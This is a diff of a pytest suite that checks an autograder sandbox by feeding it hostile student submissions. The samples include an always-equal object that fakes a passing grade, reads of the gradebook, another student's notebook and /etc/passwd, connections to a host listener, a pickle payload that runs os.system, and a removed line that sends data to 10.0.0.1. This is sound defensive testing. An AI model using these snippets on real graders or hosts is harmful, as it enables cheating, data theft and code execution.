@@ -9,13 +9,18 @@ answers must leave a correct submission at full marks.
 from __future__ import annotations
 
 import functools
+import hashlib
+import os
+import socket
+import sqlite3
 import textwrap
+import threading
 from pathlib import Path
 
 import pytest
 
 from .conftest import ROOT, grade_json
-from .submissions import build, scores
+from .submissions import build, reference_cells, scores
 
 ZEROS_FORWARD = textwrap.dedent(
     """
@@ -90,10 +95,12 @@ FUNCTION_ATTACKS = [
         class Anything:
             def __eq__(self, other):
                 return True
+            __ne__ = lambda self, other: False
             shape = property(lambda self: (0,))
+            dtype = property(lambda self: np.float64)
 
         def affine_forward(x, w, b):
-            raise ValueError(str(Anything() == 1))
+            return Anything(), (x, w, b)
         """
         ),
         "raises",
@@ -118,20 +125,6 @@ FUNCTION_ATTACKS = [
         + ZEROS_FORWARD,
         "zeros",
     ),
-    (
-        "reads_hidden_tests_and_gradebook",
-        textwrap.dedent(
-            f"""
-        def affine_forward(x, w, b):
-            for path in [{str(ROOT / "grader_tests" / "test_layers.py")!r}, {str(ROOT / "gradebook.db")!r},
-                         {str(ROOT / "source" / "mlp" / "01_layers.ipynb")!r}, '../../gradebook.db',
-                         '/proc/1/environ']:
-                open(path).read()
-            return None
-        """
-        ),
-        "raises",
-    ),
     ("sys_exit_inside_function", "import sys\ndef affine_forward(x, w, b):\n    sys.exit(0)\n", "raises"),
     ("os_exit_inside_function", "import os\ndef affine_forward(x, w, b):\n    os._exit(0)\n", "raises"),
     ("sleeps_forever", "import time\ndef affine_forward(x, w, b):\n    time.sleep(10**6)\n", "raises"),
@@ -145,18 +138,6 @@ FUNCTION_ATTACKS = [
             signal.signal(signal.SIGTERM, signal.SIG_IGN)
             while True:
                 pass
-        """
-        ),
-        "raises",
-    ),
-    (
-        "network_exfiltration",
-        textwrap.dedent(
-            """
-        import socket
-        def affine_forward(x, w, b):
-            socket.create_connection(('10.0.0.1', 80), timeout=1).sendall(x.tobytes())
-            return None
         """
         ),
         "raises",
@@ -218,16 +199,149 @@ CELL_ATTACKS = [
 ]
 
 
+def _tree_digest(path: Path) -> str:
+    digest = hashlib.sha256()
+    for item in sorted(path.rglob("*")) if path.is_dir() else [path]:
+        if item.is_file() and "__pycache__" not in item.parts:
+            digest.update(str(item).encode() + item.read_bytes())
+    return digest.hexdigest()
+
+
+# every host path an extra-cell attack aims at: their contents before and after must be equal
+HOST_TARGETS = [ROOT / "nbgrader_config.py", ROOT / "grader_tests", Path("/usr/lib/os-release"), Path("/etc/passwd")]
+# files the attacks try to create, as the host would see them (none may appear)
+HOST_FORGERIES = [Path("/tmp/results.json"), ROOT / "x", Path("/x")]
+
+
 @pytest.mark.parametrize(("name", "code"), CELL_ATTACKS, ids=[a[0] for a in CELL_ATTACKS])
 def test_attack_in_an_extra_cell_leaves_a_correct_submission_at_full_marks(tmp_path, name, code):
-    guarded = [ROOT / "nbgrader_config.py", ROOT / "grader_tests" / "conftest.py"]
-    before = [p.read_bytes() for p in guarded]
-    # the attack runs when the solution cell is loaded (before relu_forward is defined); a student
-    # who lets it raise only loses their own cell, so it is wrapped to keep the functions
-    attack = "def _attack():\n" + textwrap.indent(code, "    ") + "\n"
-    attack += "try:\n    _attack()\nexcept BaseException:\n    pass\n"
-    result = grade_json(build(tmp_path / "sub", prepend={"relu_forward_solution": attack}))
+    """The attack runs unwrapped at the end of the last solution cell (after the functions are defined)."""
+    before = {path: _tree_digest(path) for path in HOST_TARGETS}
+    assert not any(path.exists() for path in HOST_FORGERIES), "a forgery target exists before the test"
+    last = reference_cells("01_layers")["softmax_loss_solution"]
+    result = grade_json(build(tmp_path / "sub", replace={"softmax_loss_solution": last + "\n" + code}))
     info = result["tasks"]
     for task in ("affine_forward", "affine_backward", "relu_forward", "relu_backward", "softmax_loss"):
         assert info[task]["score"] == info[task]["max_score"], (name, task, info[task]["messages"])
-    assert [p.read_bytes() for p in guarded] == before
+    assert {path: _tree_digest(path) for path in HOST_TARGETS} == before
+    assert not any(path.exists() for path in HOST_FORGERIES)
+
+
+# -- breaches that would pay: the correct answer only if a read or a connection succeeds --------------
+
+PAYS_IF_READ = textwrap.dedent(
+    """
+    def affine_forward(x, w, b):
+        for path in {targets!r}:
+            try:
+                with open(path, 'rb') as fh:
+                    if fh.read(16):
+                        return x.reshape(x.shape[0], -1) @ w + b, (x, w, b)
+            except OSError:
+                pass
+        raise ValueError('nothing could be read')
+    """
+)
+
+
+def read_targets(tmp_path: Path) -> list[Path]:
+    """Host files a submission must not read, all of them real: a gradebook, another student, graders."""
+    course = tmp_path / "course"
+    course.mkdir()
+    with sqlite3.connect(course / "gradebook.db") as db:
+        db.execute("create table grade (student text, score real)")
+        db.execute("insert into grade values ('other', 9.5)")
+    other = build(tmp_path / "other-student") / "01_layers.ipynb"
+    targets = [course / "gradebook.db", other, ROOT / "grader_tests" / "test_layers.py",
+               ROOT / "source" / "mlp" / "01_layers.ipynb", ROOT / "nbgrader_config.py"]
+    assert all(path.read_bytes() for path in targets), "every target must exist on the host"
+    return targets
+
+
+def test_reading_the_gradebook_graders_or_another_student_would_pay_but_reads_nothing(tmp_path, honest):
+    code = PAYS_IF_READ.format(targets=[str(p) for p in read_targets(tmp_path)])
+    assert attacked(tmp_path / "attack", replace={"affine_forward_solution": code}) == honest("raises")
+
+
+def test_the_read_attack_does_pay_when_its_target_is_visible(tmp_path):
+    """Control: the same code with a file the sandbox does show (read-only system) gets full marks."""
+    code = PAYS_IF_READ.format(targets=["/usr/lib/os-release"])
+    assert attacked(tmp_path, replace={"affine_forward_solution": code})["affine_forward"] == 2.0
+
+
+@pytest.fixture
+def host_listener():
+    """A TCP listener on all the host's addresses that greets each connection: (port, greeting)."""
+    server = socket.create_server(("0.0.0.0", 0))
+    greeting = f"host-{os.getpid()}"
+
+    def serve() -> None:
+        while True:
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                return
+            with conn:
+                conn.sendall(greeting.encode())
+
+    threading.Thread(target=serve, daemon=True).start()
+    yield server.getsockname()[1], greeting
+    server.close()
+
+
+def test_connecting_to_the_host_would_pay_but_connects_nowhere(tmp_path, honest, host_listener):
+    port, greeting = host_listener
+    addresses = ["127.0.0.1", socket.gethostbyname(socket.gethostname())]
+    for address in addresses:  # the targets are real
+        with socket.create_connection((address, port), timeout=2) as conn:
+            assert conn.recv(64).decode() == greeting
+    code = textwrap.dedent(
+        f"""
+        import socket
+        def affine_forward(x, w, b):
+            for address in {addresses!r}:
+                try:
+                    with socket.create_connection((address, {port}), timeout=1) as conn:
+                        if conn.recv(64) == {greeting.encode()!r}:
+                            return x.reshape(x.shape[0], -1) @ w + b, (x, w, b)
+                except OSError:
+                    pass
+            raise ValueError('no connection')
+        """
+    )
+    assert attacked(tmp_path, replace={"affine_forward_solution": code}) == honest("raises")
+
+
+def test_an_object_whose_unpickling_runs_code_never_runs_on_the_host(tmp_path, honest):
+    marker = tmp_path / "unpickled-on-the-host"
+    code = textwrap.dedent(
+        f"""
+        import os
+        class Evil:
+            def __reduce__(self):
+                return (os.system, ('touch {marker}',))
+        def affine_forward(x, w, b):
+            return Evil(), (x, w, b)
+        """
+    )
+    assert attacked(tmp_path / "attack", replace={"affine_forward_solution": code}) == honest("raises")
+    assert not marker.exists()
+
+
+def test_a_submission_that_returns_its_inputs_earns_no_guard_credit_and_partial_work_earns_a_share(tmp_path):
+    """relu_forward returns x untouched: it passes the "does not modify its input" guard only, so 0.
+    relu_backward is right in float64 and wrong in float32: a partial score, points x passed / checks."""
+    replace = {
+        "relu_forward_solution": "def relu_forward(x):\n    return x.copy(), x\n",
+        "relu_backward_solution": (
+            "def relu_backward(dout, cache):\n"
+            "    return np.where(cache > 0, dout, 0).astype(np.float64)\n"
+        ),
+    }
+    info = grade_json(build(tmp_path / "sub", replace=replace))["tasks"]
+    forward, backward = info["relu_forward"], info["relu_backward"]
+    assert forward["score"] == 0.0 and forward["passed"] == 0, forward
+    assert any("side-effect checks count only" in m for m in forward["messages"]), forward["messages"]
+    checks = backward["passed"] + backward["failed"]
+    assert 0 < backward["passed"] < checks, backward
+    assert backward["score"] == round(backward["max_score"] * backward["passed"] / checks, 4)
